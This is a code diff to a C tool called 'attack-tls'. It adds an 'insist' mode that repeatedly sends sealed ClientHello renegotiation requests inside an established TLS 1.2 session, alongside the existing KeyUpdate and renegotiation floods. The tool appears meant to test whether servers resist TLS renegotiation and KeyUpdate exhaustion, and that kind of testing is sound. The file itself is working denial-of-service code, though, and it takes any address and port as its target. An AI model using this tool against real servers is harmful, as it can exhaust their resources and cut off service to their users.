@@ -5,6 +5,7 @@
  *
  *   keyupdate     KeyUpdate messages that ask for one in return (RFC 8446, 4.6.3); TLS 1.3
  *   renegotiate   handshakes inside the connection (RFC 5746); TLS 1.2
+ *   insist        the same, but deaf to the refusal: asks again and again until it is cut
  *
  * Prints: connections, messages sent, connections that the server ended, CPU seconds of its own.
  * Exit code 3: the server took part in a renegotiation.
@@ -20,6 +21,7 @@
 #include <time.h>
 #include <unistd.h>
 
+#include "seal.h"
 #include "tool.h"
 
 enum { BETWEEN_READS = 64 };
@@ -27,6 +29,9 @@ enum { BETWEEN_READS = 64 };
 const char *tool_name = "attack-tls";
 
 static unsigned long connections, messages, cut;
+
+/* Talks until the time is over or the server ends the connection. */
+typedef void talk_fn(SSL *, int64_t end_us);
 
 static int
 dial(const struct sockaddr_in *to)
@@ -98,8 +103,35 @@ renegotiate(SSL *ssl, int64_t end_us)
 	}
 }
 
+/* A ClientHello that nobody need read to its end to refuse it. */
 static void
-once(SSL_CTX *ctx, const struct sockaddr_in *to, const char *name, int updates, int64_t end_us)
+insist(SSL *ssl, int64_t end_us)
+{
+	static const unsigned char hello[4 + 37] = { 1, 0, 0, 37, 3, 3 };
+	unsigned char record[SEAL_ROOM], answer[16384];
+	int fd = SSL_get_fd(ssl);
+	struct seal seal;
+
+	seal_take(&seal, ssl);
+	while (tool_now_us() < end_us) {
+		size_t len = seal_record(&seal, 22, hello, sizeof hello, record);
+		ssize_t n;
+
+		if (send(fd, record, len, MSG_NOSIGNAL) != (ssize_t)len)
+			break;
+		messages++;
+		do
+			n = recv(fd, answer, sizeof answer, 0);
+		while (n > 0);
+		if (n == 0 || (errno != EAGAIN && errno != EWOULDBLOCK))
+			break;
+		usleep(100);
+	}
+	cut += tool_now_us() < end_us;
+}
+
+static void
+once(SSL_CTX *ctx, const struct sockaddr_in *to, const char *name, talk_fn *talk, int64_t end_us)
 {
 	int fd = dial(to);
 	SSL *ssl = SSL_new(ctx);
@@ -109,14 +141,16 @@ once(SSL_CTX *ctx, const struct sockaddr_in *to, const char *name, int updates, 
 	connections++;
 	if (SSL_connect(ssl) == 1) {
 		fcntl(fd, F_SETFL, O_NONBLOCK);
-		if (updates)
-			update_keys(ssl, end_us);
-		else
-			renegotiate(ssl, end_us);
+		talk(ssl, end_us);
 	}
 	SSL_free(ssl);
 	close(fd);
 }
+
+static const struct {
+	const char *name;
+	talk_fn *talk;
+} modes[] = { { "keyupdate", update_keys }, { "renegotiate", renegotiate }, { "insist", insist } };
 
 int
 main(int argc, char **argv)
@@ -125,22 +159,28 @@ main(int argc, char **argv)
 	struct sockaddr_in to;
 	struct timespec cpu;
 	int64_t end_us;
-	int updates;
+	talk_fn *talk = NULL;
 
 	if (argc != 5 || ctx == NULL)
 		tool_die("usage", "MODE ADDRESS:PORT NAME SECONDS");
-	updates = strcmp(argv[1], "keyupdate") == 0;
-	if (!updates && strcmp(argv[1], "renegotiate") != 0)
+	for (size_t i = 0; i < sizeof modes / sizeof modes[0]; i++)
+		if (strcmp(argv[1], modes[i].name) == 0)
+			talk = modes[i].talk;
+	if (talk == NULL)
 		tool_die(argv[1], "not a mode");
 	signal(SIGPIPE, SIG_IGN);
 	to = tool_address(argv[2]);
 	end_us = tool_now_us() + (int64_t)(strtod(argv[4], NULL) * 1e6);
-	if (updates)
+	if (talk == update_keys)
 		SSL_CTX_set_min_proto_version(ctx, TLS1_3_VERSION);
 	else
 		SSL_CTX_set_max_proto_version(ctx, TLS1_2_VERSION);
+	if (talk == insist && /* as seal.c has them */
+	    SSL_CTX_set_cipher_list(
+		ctx, "ECDHE-RSA-AES128-GCM-SHA256:ECDHE-ECDSA-AES128-GCM-SHA256") != 1)
+		abort();
 	while (tool_now_us() < end_us)
-		once(ctx, &to, argv[3], updates, end_us);
+		once(ctx, &to, argv[3], talk, end_us);
 	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &cpu);
 	printf("%lu %lu %lu %ld.%06ld\n", connections, messages, cut, (long)cpu.tv_sec,
 	    cpu.tv_nsec / 1000);
